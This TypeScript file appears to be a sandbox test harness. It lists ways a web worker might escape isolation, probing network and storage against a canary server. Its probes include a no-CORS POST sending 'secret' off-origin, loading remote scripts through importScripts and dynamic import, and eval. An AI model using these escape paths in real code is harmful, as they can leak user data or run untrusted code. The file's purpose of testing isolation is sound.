/** Where an attack tries to get to: a server on another origin, and the app's own. */
export type Target = { canary: string; app: string };

/** Of workers alone; the harness is compiled for the page. */
declare function importScripts(...urls: string[]): void;

type Exit = (target: Target) => Promise<string>;

/** What a worker can try of network and storage. Each answers what it got, and throws where it was refused. */
export const exits: Record<string, Exit> = {
  fetch: async ({ canary }) => (await fetch(`${canary}/fetch`)).text(),
  'fetch without CORS': async ({ canary }) => {
    await fetch(`${canary}/no-cors`, { method: 'POST', mode: 'no-cors', body: 'secret', keepalive: true });
    return 'sent';
  },
  'fetch of the app': async ({ app }) => (await fetch(`${app}index.html`)).text(),
  'fetch for WebAssembly': async ({ canary }) => {
    const response = await fetch(`${canary}/wasm`);
    await WebAssembly.compileStreaming(response).catch(() => undefined);
    return `${response.status}`;
  },
  XMLHttpRequest: ({ canary }) =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve(request.responseText);
      request.onerror = () => reject(new Error('refused'));
      request.open('GET', `${canary}/xhr`);
      request.send();
    }),
  'synchronous XMLHttpRequest': async ({ canary }) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${canary}/xhr-sync`, false);
    request.send();
    return request.responseText;
  },
  WebSocket: ({ canary }) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`${canary.replace('http', 'ws')}/socket`);
      // The canary hangs up on every socket, so that a socket that got through closes; a refused one is an error thrown, or at once.
      const since = performance.now();
      socket.onopen = () => resolve('open');
      socket.onerror = () => setTimeout(() => reject(new Error(`refused after ${performance.now() - since} ms`)), 200);
    }),
  EventSource: ({ canary }) =>
    new Promise((resolve, reject) => {
      const events = new EventSource(`${canary}/events`);
      events.onopen = () => resolve('open');
      events.onerror = () => setTimeout(() => reject(new Error('refused')), 200);
    }),
  importScripts: async ({ canary }) => {
    importScripts(`${canary}/script.js`);
    return 'loaded';
  },
  'dynamic import': async ({ canary }) => {
    await import(/* @vite-ignore */ `${canary}/module.js`);
    return 'loaded';
  },
  'import of a data URL': async () => {
    const url = 'data:text/javascript,export default 42';
    const module = (await import(/* @vite-ignore */ url)) as { default: number };
    return `${module.default}`;
  },
  FontFace: async ({ canary }) => {
    await new FontFace('canary', `url(${canary}/font.woff2)`).load();
    return 'loaded';
  },
  'nested worker': ({ canary }) => inNestedWorker(`fetch('${canary}/nested').then((response) => response.text())`),
  'worker by URL': ({ app }) => inWorker(`${app}plain-worker.js`),
  // oxlint-disable-next-line no-eval -- the attack
  eval: async () => String((0, eval)('40 + 2')),
  // oxlint-disable-next-line no-new-func typescript/no-implied-eval -- the attack
  'new Function': async () => String((new Function('return 40 + 2') as () => number)()),
  indexedDB: () =>
    new Promise((resolve, reject) => {
      const request = indexedDB.open('attack');
      request.onsuccess = () => {
        request.result.close();
        resolve('open');
      };
      request.onerror = () => reject(new Error('refused'));
    }),
  caches: async () => {
    await caches.open('attack');
    return 'open';
  },
  'origin private files': async () => {
    await navigator.storage.getDirectory();
    return 'open';
  },
  locks: () => navigator.locks.request('attack', () => 'held'),
  BroadcastChannel: () =>
    new Promise((resolve, reject) => {
      const channel = new BroadcastChannel('attack');
      channel.onmessage = () => resolve('heard the page');
      channel.postMessage('from the worker');
      setTimeout(() => reject(new Error('heard nothing')), 1000);
    }),
};

function inNestedWorker(expression: string): Promise<string> {
  const source = `(async () => postMessage(String(await ${expression})))().catch((error) => postMessage('refused: ' + error))`;
  return inWorker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
}

function inWorker(url: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const worker = new Worker(url);
    worker.onmessage = ({ data }: MessageEvent<string>) => (data.startsWith('refused') ? reject(new Error(data)) : resolve(data));
    worker.onerror = () => reject(new Error('the worker did not start'));
  });
}
